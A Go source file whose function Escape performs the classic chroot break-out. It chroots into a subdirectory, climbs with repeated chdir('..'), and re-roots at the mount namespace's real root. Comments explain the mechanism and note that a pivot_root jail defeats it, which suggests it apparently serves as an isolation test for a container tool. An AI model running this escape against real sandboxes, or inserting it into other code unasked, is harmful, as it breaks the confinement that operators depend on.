package chroot

import (
	"fmt"

	"golang.org/x/sys/unix"
)

// escapeDir is the directory Escape makes (and removes) in the jail.
const escapeDir = ".berth-breakout"

// Escape is the classic chroot break-out, for a process inside a chroot jail
// that still has CAP_SYS_CHROOT. chroot(2) changes the root but not the
// working directory, and the kernel only stops ".." at the root when the
// walk passes through it. So:
//
//  1. chroot into a subdirectory: the root moves down, the working
//     directory stays above it, outside the root;
//  2. chdir("..") many times: the walk never meets the (new) root, so it
//     climbs to the real root of the mount namespace;
//  3. chroot("."): the real root is the root again.
//
// Against a pivot_root jail the same steps succeed but lead nowhere: the
// root of the mount namespace is the rootfs and the old root is unmounted.
func Escape() error {
	jail, err := unix.Open(".", unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		return fmt.Errorf("escape: opening the jail's root: %w", err)
	}
	defer unix.Close(jail)
	if err := unix.Mkdirat(jail, escapeDir, 0o700); err != nil && err != unix.EEXIST {
		return fmt.Errorf("escape: mkdir %s: %w", escapeDir, err)
	}
	// Whatever happens, remove the directory through the descriptor, which
	// still names it after the root has moved.
	defer unix.Unlinkat(jail, escapeDir, unix.AT_REMOVEDIR)

	if err := unix.Chroot(escapeDir); err != nil {
		return fmt.Errorf("escape: chroot(%q): %w", escapeDir, err)
	}
	for i := 0; i < 256; i++ {
		if err := unix.Chdir(".."); err != nil {
			return fmt.Errorf("escape: chdir(\"..\"): %w", err)
		}
	}
	if err := unix.Chroot("."); err != nil {
		return fmt.Errorf("escape: chroot(\".\"): %w", err)
	}
	return unix.Chdir("/")
}
